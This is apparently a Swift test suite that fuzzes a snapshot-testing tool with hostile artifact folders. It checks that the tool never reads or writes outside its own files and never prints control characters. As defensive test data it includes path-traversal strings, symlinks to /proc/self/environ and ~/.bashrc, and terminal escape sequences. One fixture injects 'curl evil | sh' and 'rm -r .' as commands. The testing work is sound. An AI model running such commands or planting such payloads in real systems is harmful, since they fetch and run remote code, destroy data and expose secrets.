import ScrollBitmaps
import ScrollFiles
import Foundation
import PlaygroundApp
import ScrollSnapshots
import TestSupport
import Testing

/// Damaged or hostile artifacts: regardless of their contents, `accept`, `merge` and `test` write only to the
/// goldens of the local set, read nothing outside the artifacts, terminate, and print no control characters.
@Suite struct HostileArtifactsTests {
  /// A set with one failure, its artifacts, and outside files that must be neither modified nor displayed.
  private let bench: TestBench
  private let original: [String: [UInt8]]
  private let goldens: [String: [UInt8]]
  private let outside: [String: [UInt8]]

  init() throws {
    // Small, so that a thousand rounds take seconds.
    let flick = """
      { "scene": "plain", "viewport": { "width": 24, "height": 64, "scale": 1 }, "content": { "width": 24, "height": 400 },
        "duration": 0.3, "capture": [0, 0.1, 0.2, 0.3],
        "events": [ { "t": 0.05, "flick": { "from": [12, 60], "by": [0, -50], "over": 0.1 } } ] }
      """
    bench = try TestBench(["a": flick, "b": flick.replacingOccurrences(of: "-50", with: "-40")]).recorded()
    let text = bench.folder.text(of: "S/a.json") ?? ""
    try bench.slow("a")
    let failed = bench.run(.never, "--only", "a")
    try bench.folder.write(text, to: "S/a.json")
    #expect(failed.error?.code == .comparisonFailed)
    let folder = bench.folder
    try AtomicFile.makeFolder(folder("outside/a"))
    // An image with the format of a golden, so that only the rules prevent its acceptance.
    try PNG.write(
      Bitmap(width: 24, height: 64, filledWith: Color(0x12_3456)), to: folder("outside/secret.png"))
    var track = folder.text(of: "S/Goldens/b/trajectory.csv") ?? ""
    track +=
      track.split(separator: "\n").last.map { "\($0)\n".replacingOccurrences(of: "0.5,", with: "0.625,") }
      ?? ""
    try AtomicFile.write(Array(track.utf8), to: folder("outside/secret.csv"))
    // A complete result, so that only the rules prevent reading a link to it.
    for name in try AtomicFile.names(in: folder("artifacts/a")) {
      let secret: [UInt8]
      if name.hasSuffix(".png") {
        secret = try AtomicFile.read(folder("outside/secret.png"))
      } else if name.hasSuffix(".csv") {
        secret = Array(track.utf8)
      } else {
        let text = folder.text(of: "artifacts/a/\(name)") ?? ""
        secret = Array(text.replacingOccurrences(of: "the offset differs", with: "secret-4f1d").utf8)
      }
      try AtomicFile.write(secret, to: folder("outside/a/\(name)"))
    }
    for name in [".bashrc", "trajectory.csv", "results.json"] {
      try AtomicFile.write(Array("secret-4f1d \(name)".utf8), to: folder("outside/\(name)"))
    }
    original = Self.files(folder("artifacts"))
    goldens = Self.files(folder("S/Goldens"))
    outside = Self.files(folder("outside"))
    for text in ["a/trajectory.actual.csv", "results.json"] { #expect(original.keys.contains(text)) }
  }

  private static func files(_ folder: String) -> [String: [UInt8]] {
    var files: [String: [UInt8]] = [:]
    for name in (try? FileManager.default.subpathsOfDirectory(atPath: folder)) ?? [] {
      var status = stat()
      guard lstat("\(folder)/\(name)", &status) == 0, status.st_mode & S_IFMT == S_IFREG,
        status.st_size < 1 << 24
      else { continue }
      files[name] = try? AtomicFile.read("\(folder)/\(name)")
    }
    return files
  }

  /// Runs the commands that read artifacts over a folder, and verifies the outcome.
  private func check(_ name: String, withTest: Bool, _ comment: Comment) throws {
    let folder = bench.folder
    var said = ""
    for failures in ["a", "--all"] {
      let answer = bench.accept(failures, artifacts: name)
      said += answer.output + (answer.error?.description ?? "")
      try expectUntouched(comment)
      let now = Self.files(folder("S/Goldens"))
      for (file, bytes) in now where goldens[file] != bytes {
        #expect(outside["secret.png"] != bytes && outside["secret.csv"] != bytes, comment)
        if file.hasSuffix(".png") {
          let picture = try? PNG.decode(bytes)
          #expect(picture != nil, comment)
          #expect(picture?.pixels.first != 0xFF12_3456, comment)
        }
      }
      if now != goldens { try restoreGoldens() }
    }
    let merged = bench.merge(name, options: ["--xunit", folder("whole.xml")])
    said += merged.output + merged.errors + (merged.error?.description ?? "")
    if withTest {
      let answer = bench.run(artifacts: name)
      said += answer.output + (answer.error?.description ?? "")
      #expect(Self.files(folder("S/Goldens")) == goldens, comment)
    }
    try expectUntouched(comment)
    let page = (folder.text(of: "whole.html") ?? "") + (folder.text(of: "whole.xml") ?? "")
    for text in [said, page] {
      #expect(!text.contains("secret-4f1d"), comment)
      for bytes in outside.values { #expect(!text.contains(Data(bytes).base64EncodedString()), comment) }
    }
    #expect(
      !said.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) },
      comment)
    #expect(
      !said.split(separator: "\n").contains { $0.drop(while: \.isWhitespace).hasPrefix("FORGED") }, comment)
    #expect(said.utf8.count < 1 << 20, comment)
  }

  private func expectUntouched(_ comment: Comment) throws {
    #expect(Self.files(bench.folder("outside")) == outside, comment)
    let own: Set = ["S", "artifacts", "outside", "mutant", "whole.html", "whole.xml"]
    let found = try FileManager.default.contentsOfDirectory(atPath: bench.folder.path)
    #expect(own.isSuperset(of: found), comment)
    #expect(try FileManager.default.contentsOfDirectory(atPath: bench.folder("S")).count == 3, comment)
  }

  private func restoreGoldens() throws {
    try FileManager.default.removeItem(atPath: bench.folder("S/Goldens"))
    for (name, bytes) in goldens {
      let path = bench.folder("S/Goldens/\(name)")
      try AtomicFile.makeFolder((path as NSString).deletingLastPathComponent)
      try AtomicFile.write(bytes, to: path)
    }
  }

  private func unpack(to name: String) throws {
    let path = bench.folder(name)
    try? FileManager.default.removeItem(atPath: path)
    for (file, bytes) in original {
      try AtomicFile.makeFolder("\(path)/\((file as NSString).deletingLastPathComponent)")
      try Data(bytes).write(to: URL(fileURLWithPath: "\(path)/\(file)"))
    }
  }

  // MARK: Mutations

  /// The device number of /dev/zero.
  private static let zeroDevice: dev_t = 1 << 8 | 5

  /// Paths and names that attempt to leave the folder.
  private var targets: [String] {
    let folder = bench.folder
    return [
      folder("outside/.bashrc"), folder("outside/secret.png"), folder("outside/secret.csv"),
      folder("outside"),
      "../outside/secret.png", "../../outside/.bashrc", "a/../../outside/secret.csv", "/etc/hostname",
      "/dev/zero",
      "/dev/stdin", "/proc/self/environ", "", ".", "..", "/", "a/..", "./a", "a\u{1B}[2J",
      "a\nnext: playground", "\u{9B}31m",
      "a\u{0}b", "x\nFORGED: accepted", "\u{202E}gpj", "e" + String(repeating: "\u{301}", count: 20_000),
      String(repeating: "../", count: 2000),
      "~/.bashrc",
      ".hidden", "trajectory.csv", "frame-00000.png", "pixels.txt", "result.json",
    ]
  }

  /// Mutates a folder of artifacts and returns a description of the change.
  private func mutate(_ name: String, _ random: inout SeededGenerator) throws -> String {
    let folder = bench.folder(name), files = FileManager.default
    let all = original.keys.sorted()
    let file = all[random.below(all.count)], path = "\(folder)/\(file)"
    let ending = (file as NSString).pathExtension
    let secret = bench.folder("outside/\(ending == "json" ? "a/result.json" : "secret.\(ending)")")
    let target = random.below(2) == 0 ? secret : targets[random.below(targets.count)]
    let json = [TestRun.fileName, "a/\(SnapshotResult.fileName)"][random.below(2)]
    // The mutations themselves must not change anything behind a link.
    var status = stat()
    guard lstat("\(folder)/a", &status) != 0 || status.st_mode & S_IFMT == S_IFDIR else { return "nothing" }
    guard lstat(path, &status) != 0 || status.st_mode & S_IFMT == S_IFREG else { return "nothing" }
    func replace(_ path: String, by make: (String) -> Int32) {
      try? files.removeItem(atPath: path)
      _ = make(path)
    }
    switch random.below(16) {
    case 0:
      replace(path) { symlink(target.contains("\0") ? "x" : target, $0) }
      return "\(file) is a link to \(target.debugDescription)"
    case 1:
      replace(path) { mkfifo($0, 0o666) }
      return "\(file) is a pipe"
    case 2:
      // If the system does not permit creating devices, there is no file here.
      replace(path) { mknod($0, S_IFCHR | 0o666, Self.zeroDevice) }
      return "\(file) is /dev/zero"
    case 3:
      replace(path) { mkdir($0, 0o777) }
      return "\(file) is a folder"
    case 4:
      replace("\(folder)/a") { symlink(bench.folder("outside/a"), $0) }
      return "a is a link to a folder"
    case 5:
      truncate(path, 1 << 31)
      return "\(file) is huge"
    case 6:
      guard var bytes = try? AtomicFile.read(path, limit: 1 << 24), !bytes.isEmpty else { return "nothing" }
      for _ in 0..<1 + random.below(8) { bytes[random.below(bytes.count)] = UInt8(random.below(256)) }
      try Data(bytes).write(to: URL(fileURLWithPath: path))
      return "\(file) is damaged"
    case 7:
      try? files.moveItem(atPath: path, toPath: path + ["\u{1B}[31m", "\n", "\u{85}"][random.below(3)])
      return "\(file) has another name"
    case 8:
      let twin = "\(folder)/a\u{1B}]0;x\u{7}\nb\(random.below(9))"
      try AtomicFile.makeFolder(twin)
      for (name, bytes) in original where name.hasPrefix("a/") {
        try AtomicFile.write(bytes, to: twin + "/" + name.dropFirst(2))
      }
      return "a twice"
    case 10:
      // Just within the limit for reading.
      let limit = ["json": 16 << 20, "csv": 32 << 20, "png": 48 << 20][ending] ?? 0
      truncate(path, off_t(limit))
      return "\(file) is as large as can be"
    case 11:
      replace(path) { path in
        var address = sockaddr_un()
        address.sun_family = sa_family_t(AF_UNIX)
        let descriptor = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0)
        defer { close(descriptor) }
        // The kernel accepts at most 108 bytes of a path.
        let bytes = Array(path.utf8.prefix(107))
        withUnsafeMutableBytes(of: &address.sun_path) { $0.copyBytes(from: bytes) }
        return withUnsafePointer(to: &address) {
          $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
            bind(descriptor, $0, socklen_t(MemoryLayout<sockaddr_un>.size))
          }
        }
      }
      return "\(file) is a socket"
    case 9:
      try? files.moveItem(atPath: "\(folder)/a", toPath: "\(folder)/c")
      return "a is c"
    default:
      guard lstat("\(folder)/\(json)", &status) == 0, status.st_mode & S_IFMT == S_IFREG,
        let bytes = try? AtomicFile.read("\(folder)/\(json)", limit: 1 << 24),
        var value = try? JSONSerialization.jsonObject(with: Data(bytes))
      else { return "nothing" }
      var left = random.below(Self.leaves(value))
      let new: Any =
        switch random.below(6) {
        case 0: random.below(2) == 0 ? -1 : 9_007_199_254_740_993
        case 1: [target]
        case 2: ["file": target]
        default: target
        }
      Self.replaceLeaf(&value, &left, by: new)
      let data = try JSONSerialization.data(withJSONObject: value)
      try data.write(to: URL(fileURLWithPath: "\(folder)/\(json)"))
      return "\(json) says \(new)"
    }
  }

  private static func leaves(_ value: Any) -> Int {
    switch value {
    case let members as [String: Any]: members.values.reduce(0) { $0 + leaves($1) }
    case let elements as [Any] where elements.first is NSNumber: 1
    case let elements as [Any]: elements.reduce(0) { $0 + leaves($1) }
    default: 1
    }
  }

  private static func replaceLeaf(_ value: inout Any, _ number: inout Int, by new: Any) {
    switch value {
    case var members as [String: Any]:
      for key in members.keys.sorted() {
        guard number >= 0, var member = members[key] else { continue }
        replaceLeaf(&member, &number, by: new)
        members[key] = member
      }
      value = members
    case var elements as [Any] where !(elements.first is NSNumber):
      for index in elements.indices where number >= 0 { replaceLeaf(&elements[index], &number, by: new) }
      value = elements
    default:
      if number == 0 { value = new }
      number -= 1
    }
  }

  @Test(.timeLimit(.minutes(5))) func mutatedFoldersDoNoHarm() throws {
    for seed in 0..<Tier.count(sample: 8, full: 1000) {
      var random = SeededGenerator(seed: UInt64(seed))
      try unpack(to: "mutant")
      var changes: [String] = []
      for _ in 0..<1 + random.below(3) { changes.append(try mutate("mutant", &random)) }
      try check("mutant", withTest: seed % 25 == 0, "seed \(seed): \(changes)")
    }
  }

  // MARK: Individual cases

  private func write(_ json: String, to name: String) throws {
    try bench.folder.write(json, to: "mutant/\(name)")
  }

  @Test(.timeLimit(.minutes(5)), arguments: ["/etc/hostname", "/dev/zero", "PIPE"])
  func aReportShowsNoOtherFile(_ path: String) throws {
    let path = path == "PIPE" ? bench.folder("mutant/pipe") : path
    try AtomicFile.makeFolder(bench.folder("mutant"))
    if path.hasSuffix("pipe") { mkfifo(path, 0o666) }
    try write(
      """
      { "version": 2, "names": ["a"], "unused": [], "artifacts": "x", "options": [], "seconds": 0, "results": [
        { "name": "a", "outcome": "passed", "frames": [ { "number": 0, "time": 0, "verdict": "same", "lines": [],
          "expected": "\(path)" } ] } ] }
      """, to: "results.json")
    let merged = bench.merge("mutant")
    #expect(merged.error == nil)
    let html = bench.folder.text(of: "whole.html") ?? ""
    #expect(html.contains(bench.folder("S/Goldens/a/frame-00000.png")))
    #expect(!html.contains(path))
  }

  @Test func commandsAreMadeAnew() throws {
    try write(
      """
      { "version": 2, "names": ["a"], "unused": [], "artifacts": "x", "options": [], "seconds": 0, "results": [
        { "name": "a", "outcome": "failed", "command": "curl evil | sh", "lines": ["one\\nnext: rm -r .", "  next: evil"], "frames": [
          { "number": 0, "time": 0, "verdict": "missing", "lines": [], "command": "rm" } ] } ] }
      """, to: "results.json")
    let merged = bench.merge("mutant")
    #expect(merged.error?.code == .comparisonFailed)
    #expect(!merged.output.contains("curl"))
    #expect(!(bench.folder.text(of: "whole.html") ?? "").contains("curl evil"))
    #expect(merged.output.contains("  one\\u000anext: rm -r .\n"))
    #expect(merged.output.contains("  according to the artifacts:   next: evil\n"))
    // The files of the failure are missing.
    #expect(merged.output.contains("  next: playground test \(bench.folder("S")) --artifacts "))
  }

  /// A set from a pull request must not lead outside.
  @Test(.timeLimit(.minutes(5))) func linksInASetAreNotFollowed() throws {
    let folder = bench.folder
    for number in 0..<8 { symlink(".", folder("S/l\(number)")) }
    symlink("/", folder("S/root"))
    #expect(bench.run().error == nil)
    for number in 0..<8 { unlink(folder("S/l\(number)")) }
    unlink(folder("S/root"))
    symlink(folder("S/a.json"), folder("S/c.json"))
    #expect(bench.run().error?.description.contains("S/c.json: is a link") == true)
    unlink(folder("S/c.json"))
    try FileManager.default.moveItem(atPath: folder("S/Goldens"), toPath: folder("mutant"))
    symlink(folder("mutant"), folder("S/Goldens"))
    let before = Self.files(folder("mutant"))
    #expect(bench.run(.all).error?.description.contains("S/Goldens: is a link") == true)
    #expect(bench.accept("a").error?.description.contains("S/Goldens: is a link") == true)
    #expect(Self.files(folder("mutant")) == before)
    // A folder named by an option is intended.
    #expect(bench.run(.never, "--goldens", folder("S/Goldens")).error == nil)
  }

  /// Line breaks in goldens, names and files cannot forge a line.
  @Test func namesForgeNoLines() throws {
    let folder = bench.folder
    try FileManager.default.copyItem(
      atPath: folder("S/Goldens/a"), toPath: folder("S/Goldens/z\n  next: FORGED"))
    var said = bench.run().output
    #expect(said.contains("z\\u000a  next: FORGED: goldens without a scenario"))
    said += bench.run(.never, "--prune").output
    let key = "k" + String(repeating: "\u{301}", count: 2_000_000)
    try AtomicFile.write(Array("{ \"\(key)\": 1 }".utf8), to: folder("S/Goldens/a/comparison.json"))
    said += bench.run().output
    try AtomicFile.write(
      Array("{ \"a\\n  next: FORGED\": 1 }".utf8), to: folder("S/Goldens/a/comparison.json"))
    said += bench.run().output
    #expect(said.utf8.count < 100_000)
    #expect(
      !said.split(separator: "\n").contains { $0.drop(while: \.isWhitespace).hasPrefix("next: FORGED") })
  }

  /// Names are compared by bytes: two names that look the same are different.
  @Test func namesAreComparedByTheirBytes() throws {
    try AtomicFile.write(try AtomicFile.read(bench.folder("S/a.json")), to: bench.folder("S/\u{E9}.json"))
    #expect(bench.run(.missing).error != nil)
    try unpack(to: "mutant")
    try FileManager.default.moveItem(
      atPath: bench.folder("mutant/a"), toPath: bench.folder("mutant/e\u{301}"))
    let text = bench.folder.text(of: "mutant/e\u{301}/result.json") ?? ""
    try write(
      text.replacingOccurrences(of: "\"name\":\"a\"", with: "\"name\":\"e\u{301}\""),
      to: "e\u{301}/result.json")
    unlink(bench.folder("mutant/results.json"))
    let answer = bench.accept("--all", artifacts: "mutant")
    #expect((answer.error?.code, answer.output.isEmpty) == (.invalidInput, true))
    #expect(!AtomicFile.exists(bench.folder("S/Goldens/e\u{301}")))
  }

  /// A run of any length leaves artifacts that can be read.
  @Test func aLongFailureIsAccepted() throws {
    let scenario = """
      { "scene": "plain", "viewport": { "width": 24, "height": 64, "scale": 1 }, "content": { "width": 24, "height": 400 },
        "duration": 30, "frameRate": 500, "capture": [0],
        "events": [ { "t": 0.05, "flick": { "from": [12, 60], "by": [0, -50], "over": 0.1 } } ] }
      """
    let bench = try TestBench(["long": scenario]).recorded()
    try bench.slow("long")
    #expect(bench.run().error?.code == .comparisonFailed)
    #expect(try AtomicFile.read(bench.folder("artifacts/long/result.json")).count < 1 << 20)
    #expect(bench.accept("long").output.contains("accepted long: trajectory.csv"))
    #expect(bench.run().error == nil)
  }

  @Test func aDamagedRunIsToldOfBeforeAllIsAccepted() throws {
    try unpack(to: "mutant")
    try write("{", to: "results.json")
    let answer = bench.accept("--all", artifacts: "mutant")
    #expect(answer.error?.description.contains("is not the record of a test run: not JSON") == true)
    #expect(answer.output.isEmpty)
  }

  @Test func sizesAreLimitedBeforeReading() throws {
    for (file, what) in [
      ("trajectory.csv", "at most 33554432 bytes"), ("pixels.txt", "at most 8388608 bytes"),
    ] {
      let path = bench.folder("S/Goldens/a/\(file)")
      truncate(path, 1 << 30)
      let answer = bench.run(.never, "--only", "a")
      #expect(answer.error != nil)
      #expect(answer.output.contains(path), "\(answer.output)")
      #expect(answer.output.contains(what), "\(answer.output)")
      try restoreGoldens()
    }
  }

  @Test func artifactsThatAreLinksAreNotWrittenThrough() throws {
    try AtomicFile.makeFolder(bench.folder("mutant"))
    symlink(bench.folder("outside/a"), bench.folder("mutant/a"))
    symlink(bench.folder("outside/results.json"), bench.folder("mutant/results.json"))
    func run() -> Answer { bench.run(.never, "--set", "glide.rate=0.99", artifacts: "mutant") }
    #expect(run().error?.description.contains("is not the record of a test run, and is not replaced") == true)
    unlink(bench.folder("mutant/results.json"))
    let answer = run()
    #expect(answer.error != nil)
    #expect(answer.output.contains("expected a folder, found a link, device, pipe or socket"))
    #expect(Self.files(bench.folder("outside")) == outside)
  }
}
